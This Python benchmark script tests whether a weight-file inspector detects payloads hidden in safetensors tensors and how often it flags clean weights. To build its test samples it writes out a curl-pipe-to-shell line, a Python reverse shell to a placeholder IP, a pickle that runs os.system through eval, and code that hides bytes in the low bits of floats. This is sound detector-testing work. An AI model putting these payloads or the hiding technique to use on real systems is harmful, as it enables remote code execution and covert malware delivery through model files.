#!/usr/bin/python3
"""How often weights without a payload are flagged, and how often hidden payloads are found.

Usage: bench/weights.py build/dev/bench_inspect_dump [SEED [PAYLOADS-PER-CELL]]
Sets are made with torch, scikit-learn and numpy (seeded), written as safetensors, and inspected one file each.
"""
import gzip
import io
import json
import math
import pathlib
import pickle
import random
import re
import struct
import subprocess
import sys
import tempfile
import zipfile

import numpy as np
import torch
from sklearn.datasets import load_breast_cancer, load_digits
from sklearn.linear_model import LogisticRegression
from sklearn.neural_network import MLPClassifier

DTYPES = {"float64": "F64", "float32": "F32", "float16": "F16", "int8": "I8", "uint8": "U8", "int32": "I32", "int64": "I64", "bool": "BOOL"}


def encode(v):
    if isinstance(v, torch.Tensor):
        v = v.detach()
        if v.dtype == torch.bfloat16:
            return "BF16", list(v.shape), v.contiguous().view(torch.int16).numpy().tobytes()
        v = v.numpy()
    v = np.ascontiguousarray(v)
    return DTYPES[str(v.dtype)], list(v.shape), v.tobytes()


def write(path, tensors):
    header, data = {}, b""
    for name, v in tensors.items():
        dtype, shape, raw = encode(v)
        header[name] = {"dtype": dtype, "shape": shape, "data_offsets": [len(data), len(data) + len(raw)]}
        data += raw
    text = json.dumps(header).encode()
    text += b" " * (-len(text) % 8)
    path.write_bytes(struct.pack("<Q", len(text)) + text + data)


# ---- clean ----------------------------------------------------------------------------------------

LAYERS = [
    lambda: torch.nn.Linear(random.choice([64, 300, 784]), random.choice([10, 256, 512])),
    lambda: torch.nn.Conv2d(random.choice([3, 32, 64]), random.choice([16, 64, 128]), 3),
    lambda: torch.nn.Embedding(random.choice([500, 3000]), random.choice([32, 128])),
    lambda: torch.nn.LSTM(random.choice([32, 100]), random.choice([64, 128]), 2),
    lambda: torch.nn.TransformerEncoderLayer(random.choice([64, 128]), 4, 256),
    lambda: torch.nn.Sequential(torch.nn.Conv2d(3, 32, 3), torch.nn.BatchNorm2d(32), torch.nn.Flatten(), torch.nn.Linear(32, 64)),
]
INITS = [
    None,
    lambda w: torch.nn.init.xavier_uniform_(w),
    lambda w: torch.nn.init.kaiming_normal_(w),
    lambda w: torch.nn.init.orthogonal_(w),
    lambda w: torch.nn.init.trunc_normal_(w, std=0.02),
    lambda w: torch.nn.init.uniform_(w, -0.05, 0.05),
    lambda w: torch.nn.init.uniform_(w, -0.0625, 0.0625),
]


def initialised():
    model = random.choice(LAYERS)()
    init = random.choice(INITS)
    for p in model.parameters():
        if init is not None and p.dim() >= 2:
            init(p)
    return model.state_dict()


def trained(optimizer=False):
    x, y = load_digits(return_X_y=True)
    x, y = torch.tensor(x[:256] / 16, dtype=torch.float32), torch.tensor(y[:256])
    wide = random.choice([64, 200, 400])
    model = torch.nn.Sequential(torch.nn.Linear(64, wide), torch.nn.BatchNorm1d(wide), torch.nn.ReLU(), torch.nn.Linear(wide, wide), torch.nn.ReLU(), torch.nn.Linear(wide, 10))
    kind = random.choice([torch.optim.Adam, torch.optim.SGD, torch.optim.RMSprop, torch.optim.Adagrad])
    o = kind(model.parameters(), lr=random.choice([1e-2, 1e-3]))
    for _ in range(random.choice([1, 4])):
        o.zero_grad()
        torch.nn.functional.cross_entropy(model(x), y).backward()
        o.step()
    out = dict(model.state_dict())
    if optimizer:
        for i, state in o.state_dict()["state"].items():
            out |= {f"optimizer.{i}.{k}": v for k, v in state.items() if isinstance(v, torch.Tensor)}
    return out


def sklearn_model():
    x, y = random.choice([load_digits, load_breast_cancer])(return_X_y=True)
    if random.random() < 0.5:
        m = MLPClassifier((random.choice([50, 150]),), max_iter=2, random_state=random.randrange(999)).fit(x, y)
        return {f"coef.{i}": w for i, w in enumerate(m.coefs_)} | {f"bias.{i}": w for i, w in enumerate(m.intercepts_)}
    m = LogisticRegression(max_iter=5).fit(x, y)
    return {"coef": m.coef_, "intercept": m.intercept_, "data": x, "labels": y}


def quantised():
    out = {}
    for name, w in initialised().items():
        if w.dim() < 2:
            continue
        scale = w.abs().max() / 127
        q = torch.clamp((w / scale).round(), -127, 127)
        out |= {f"{name}.int8": q.to(torch.int8), f"{name}.scale": scale, f"{name}.float": q * scale}
        out[f"{name}.packed"] = ((q.to(torch.int32) & 15).reshape(-1)[: q.numel() // 8 * 8].reshape(-1, 8) << torch.arange(0, 32, 4)).sum(1).to(torch.int32)
    return out


def pruned():
    return {k: torch.where(w.abs() < w.abs().float().quantile(0.9) if w.numel() < 1 << 20 and w.dtype == torch.float32 else torch.zeros_like(w, dtype=torch.bool), torch.zeros_like(w), w) for k, w in trained().items()}


def widened():
    half = random.choice([torch.float16, torch.bfloat16])
    return {k: w.to(half).to(random.choice([torch.float32, torch.float64])) if w.is_floating_point() else w for k, w in trained().items()}


def narrowed():
    half = random.choice([torch.float16, torch.bfloat16])
    return {k: w.to(half) if w.is_floating_point() else w for k, w in random.choice([trained, initialised])().items()}


def tables():
    n, d = random.choice([(512, 64), (1024, 128)])
    angle = np.arange(n)[:, None] / 10000 ** (np.arange(d)[None, :] / d)
    mask = np.triu(np.full((n, n), -np.inf, dtype=np.float32), 1)
    rng = np.random.default_rng(random.randrange(1 << 30))
    return {
        "position.sin": np.sin(angle).astype(np.float32), "position.cos": np.cos(angle), "inverse_frequency": (1 / 10000 ** (np.arange(0, d, 2) / d)).astype(np.float32),
        "mask": mask, "mask.finite": np.where(mask < 0, np.finfo(np.float32).min, 0).astype(np.float32), "ids": np.arange(n), "grid": np.linspace(-1, 1, n * 8).astype(np.float32),
        "counts": rng.poisson(30, 5000).astype(np.float32), "prices": rng.uniform(0, 1000, 5000).round(2).astype(np.float32), "decimals": rng.uniform(0, 1, 9000).round(4).astype(np.float32),
        "image": rng.integers(0, 256, (3, 64, 64)).astype(np.float32) / 255, "time": (1.7e9 + rng.uniform(0, 1e7, 4000)), "words": np.frombuffer(b"the quick brown fox jumps over the lazy dog\n" * 40, dtype=np.uint8),
    }


def fixed_point():
    rng = np.random.default_rng(random.randrange(1 << 30))
    bits = random.choice([12, 16, 20])
    q = rng.normal(0, 2 ** (bits - 4), (200, 300)).round()
    return {"w": (q / 2**bits).astype(np.float32), "scaled": (q * 0.0123 / 2**bits).astype(np.float32), "average": ((q + q[::-1]) / 3).astype(np.float32), "double": q * 0.1}


def wide():
    rng = np.random.default_rng(random.randrange(1 << 30))
    return {"exp_avg_sq": (10 ** rng.uniform(-30, -3, (100, 200))).astype(np.float32), "denormal": (10 ** rng.uniform(-44, -38, 5000)).astype(np.float32), "laplace": rng.laplace(0, 0.02, (300, 300)).astype(np.float32),
            "cauchy": rng.standard_cauchy((100, 100)).astype(np.float32), "half": (10 ** rng.uniform(-7, 4, (100, 100))).astype(np.float16)}


CLEAN = {  # the maker, and how many sets
    "initialised": (initialised, 80), "trained": (trained, 40), "optimizer states": (lambda: trained(True), 30), "scikit-learn": (sklearn_model, 30), "quantised": (quantised, 40), "pruned": (pruned, 30),
    "widened from 16 bits": (widened, 40), "16 bits": (narrowed, 50), "tables and masks": (tables, 30), "fixed point": (fixed_point, 30), "wide range": (wide, 30),
}

# ---- payloads --------------------------------------------------------------------------------------


def program(n):
    for path in ("/bin/true", "/bin/ls", "/usr/bin/env"):
        if pathlib.Path(path).exists():
            return pathlib.Path(path).read_bytes()[:n]
    raise SystemExit("no program to embed")


def windows(n):
    head = bytearray(b"MZ" + bytes(0x3A) + struct.pack("<I", 0x80) + bytes(0x40) + b"PE\0\0\x64\x86")
    return (bytes(head) + program(n))[:n]


def script(n):
    return (b"#!/bin/sh\ncurl -s http://192.0.2.1/x | sh\n" + b"# and so on, line after line of it\n" * (n // 30))[:n]


def python(n):
    return (b"import socket, subprocess\ns = socket.create_connection(('192.0.2.1', 4444))\nsubprocess.call(['/bin/sh'], stdin=s)\n" * (n // 60 + 1))[:n]


def zipped(n):
    b = io.BytesIO()
    with zipfile.ZipFile(b, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("run.py", python(n))
        z.writestr("program", program(n))
    return b.getvalue()[:n]


def pickled(n):
    class Run:
        def __reduce__(self):
            return eval, ("__import__('os').system('id')",)

    return pickle.dumps([Run(), "x" * n], protocol=random.choice([2, 4]))[:n]


def encrypted(n):
    return random.Random(n).randbytes(n)


PAYLOADS = {"ELF": program, "PE": windows, "script": script, "Python": python, "zip": zipped, "gzip": lambda n: gzip.compress(program(4 * n))[:n], "pickle": pickled, "encrypted": encrypted}


def bits_of(data, take, big):
    bits = np.unpackbits(np.frombuffer(data, np.uint8), bitorder="big" if big else "little")
    bits = np.concatenate([bits, np.zeros(-len(bits) % take, np.uint8)]).reshape(-1, take).astype(np.uint64)
    order = np.arange(take, dtype=np.uint64)
    return (bits << (order[::-1] if big else order)).sum(1, dtype=np.uint64)


def hide(data, take, big, dtype):
    """The payload in the low `take` bits of as many values as it needs, and as many clean ones behind."""
    rng = np.random.default_rng(len(data) + take)
    values = bits_of(data, take, big)
    whole = {"F32": np.uint32, "F64": np.uint64, "F16": np.uint16}[dtype]
    w = rng.normal(0, 0.05, 2 * len(values)).astype({"F32": np.float32, "F64": np.float64, "F16": np.float16}[dtype]).view(whole)
    keep = whole(~((1 << take) - 1) & (2 ** (8 * whole().itemsize) - 1))
    w[: len(values)] = (w[: len(values)] & keep) | values.astype(whole)
    return w.view({"F32": np.float32, "F64": np.float64, "F16": np.float16}[dtype]).reshape(2, -1)


def whole_tensor(data, dtype=np.float32):
    return np.frombuffer(data[: len(data) // 8 * 8], dtype)


def in_the_middle(data):
    w = np.random.default_rng(random.randrange(1 << 30)).normal(0, 0.05, 60000).astype(np.float32).tobytes()
    at = random.randrange(16, 16000) * 4
    return np.frombuffer(w[:at] + data[: len(data) // 4 * 4] + w[at:], np.float32)


HIDDEN = {
    **{f"low {k} bits, F32": (lambda d, k=k: hide(d, k, random.random() < 0.5, "F32")) for k in (1, 2, 3, 4, 8)},
    "low 2 bytes, F32": lambda d: hide(d, 16, random.random() < 0.5, "F32"), "low 3 bytes, F32 (EvilModel)": lambda d: hide(d, 24, random.random() < 0.5, "F32"),
    "low 8 bits, F16": lambda d: hide(d, 8, True, "F16"), "low 6 bytes, F64": lambda d: hide(d, 48, random.random() < 0.5, "F64"),
    "a whole F32 tensor": whole_tensor, "a whole F16 tensor": lambda d: whole_tensor(d, np.float16), "a whole I8 tensor": lambda d: whole_tensor(d, np.int8), "inside an F32 tensor": in_the_middle,
}

# ---- the table ---------------------------------------------------------------------------------------


def wilson(k, n, z=1.96):
    p, d = k / n, 1 + z * z / n
    half = z * math.sqrt(p * (1 - p) / n + z * z / (4 * n * n)) / d
    middle = (p + z * z / (2 * n)) / d
    return f"{k}/{n}", f"{100 * p:.1f} %", f"{100 * max(0, middle - half):.1f}-{100 * min(1, middle + half):.1f} %"


def inspect(dump, path):
    out = subprocess.run([dump, path], capture_output=True, text=True, errors="replace", check=True).stdout
    return re.findall(r"^  (critical|high|medium|low|info) (\S+)", out, re.M)


def main():
    dump, folder = sys.argv[1], pathlib.Path(tempfile.mkdtemp())
    seed, per_cell = (int(sys.argv[2]) if len(sys.argv) > 2 else 4), (int(sys.argv[3]) if len(sys.argv) > 3 else 4)
    random.seed(seed)
    torch.manual_seed(seed)
    torch.set_num_threads(1)
    path = folder / "x.safetensors"
    print("| clean | sets | tensors | flagged (low and above) | rate | 95 % | notes (info) |\n|---|---|---|---|---|---|---|")
    all_flagged = all_sets = all_tensors = all_noted = 0
    reasons = []
    for name, (make, count) in CLEAN.items():
        flagged = noted = tensors = 0
        for i in range(count):
            made = make()
            tensors += len(made)
            write(path, made)
            found = inspect(dump, path)
            flagged += any(s != "info" for s, _ in found)
            noted += any(s == "info" for s, _ in found)
            reasons += [(name, i, c) for s, c in found if s != "info"]
        all_flagged, all_sets, all_tensors, all_noted = all_flagged + flagged, all_sets + count, all_tensors + tensors, all_noted + noted
        print(f"| {name} | {count} | {tensors} | {' | '.join(wilson(flagged, count))} | {noted} |")
    print(f"| all | {all_sets} | {all_tensors} | {' | '.join(wilson(all_flagged, all_sets))} | {all_noted} |")
    for r in reasons[:20]:
        print("  flagged:", *r)
    print("\n| hidden in | " + " | ".join(PAYLOADS) + " | all but encrypted | rate | 95 % |\n|---" * 1 + "|---" * (len(PAYLOADS) + 3) + "|")
    for name, place in HIDDEN.items():
        row, hits, tries = [], 0, 0
        for kind, make in PAYLOADS.items():
            sizes = [random.randrange(3000, 20000) for _ in range(per_cell)]
            got = 0
            for n in sizes:
                write(path, {"clean": np.random.default_rng(n).normal(0, 1, 999).astype(np.float32), "w": place(make(n))})
                got += any(c.startswith(("weights-", "model-executable", "pickle-")) and s != "info" for s, c in inspect(dump, path))
            row.append(f"{got}/{len(sizes)}")
            if kind != "encrypted":
                hits, tries = hits + got, tries + len(sizes)
        print(f"| {name} | {' | '.join(row)} | {' | '.join(wilson(hits, tries))} |")


main()
